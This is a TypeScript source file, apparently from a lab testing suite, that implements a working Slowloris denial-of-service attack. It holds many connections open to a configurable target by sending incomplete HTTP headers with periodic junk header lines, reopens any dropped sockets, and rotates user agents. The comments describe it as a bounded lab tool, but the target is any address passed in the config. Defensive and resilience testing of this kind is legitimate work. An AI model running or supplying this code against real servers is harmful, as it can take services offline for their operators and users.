/**
 * Slowloris in the manner of the original tool. It opens many connections and sends an
 * incomplete request header on each, then one more header line every interval, so the server
 * keeps waiting. Closed connections are reopened. A test tool for the lab, bounded by duration,
 * connection count and opening rate.
 *
 * Usage: node --import tsx lab/attacks/slowloris.ts '<HttpAttackConfig JSON>'
 */
import net from 'node:net';
import { SeededRandom } from '../random.ts';
import { USER_AGENTS } from '../agents/user-agents.ts';
import { createCounters, hostHeader, printResult, readAttackConfig, stopSignal } from './http-flood-common.ts';

const config = readAttackConfig('slowloris');
const signal = stopSignal(config.durationMs);
const counters = createCounters('slowloris');
const random = new SeededRandom(config.seed);
const sockets = new Set<net.Socket>();
const connectIntervalMs = 1_000 / Math.max(1, config.connectRatePerSecond ?? 50);
const headerIntervalMs = config.headerIntervalMs ?? 10_000;

function open(): void {
  const socket = net.connect({ host: config.targetAddress, port: config.port });
  counters.connections++;
  sockets.add(socket);
  socket.setNoDelay(true);
  socket.on('connect', () => {
    counters.requests++;
    socket.write(`GET /?${random.int(0, 2000)} HTTP/1.1\r\nHost: ${hostHeader(config.targetAddress, config.port)}\r\n`);
    socket.write(`User-Agent: ${random.pick(USER_AGENTS)}\r\nAccept-language: en-US,en,q=0.5\r\n`);
  });
  socket.on('data', () => counters.responses++);
  socket.on('error', () => counters.errors++);
  socket.on('close', () => sockets.delete(socket));
}

// Opens connections at the configured rate until the target count is reached, and reopens any
// the server closed.
const opener = setInterval(() => {
  if (!signal.aborted && sockets.size < config.concurrency) open();
}, connectIntervalMs);

const keeper = setInterval(() => {
  for (const socket of sockets) {
    if (socket.readyState === 'open') socket.write(`X-a: ${random.int(1, 5000)}\r\n`);
  }
}, headerIntervalMs);

await new Promise<void>((resolve) => signal.addEventListener('abort', () => resolve(), { once: true }));
clearInterval(opener);
clearInterval(keeper);
for (const socket of sockets) socket.destroy();
printResult(counters);
process.exit(0);
